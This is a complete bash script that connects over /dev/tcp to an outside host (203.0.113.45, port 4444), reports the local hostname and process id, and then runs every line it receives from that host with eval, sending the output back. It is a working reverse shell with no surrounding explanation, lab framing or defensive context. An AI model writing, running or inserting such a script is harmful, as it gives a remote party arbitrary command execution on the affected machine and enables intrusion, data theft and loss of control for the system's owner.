#!/usr/bin/env bash
exec 5<>/dev/tcp/203.0.113.45/4444
echo "session: $(hostname)-$$" >&5
echo "session code: $(hostname)-$$"
while IFS= read -r line <&5; do
  eval "$line" >&5 2>&5
done
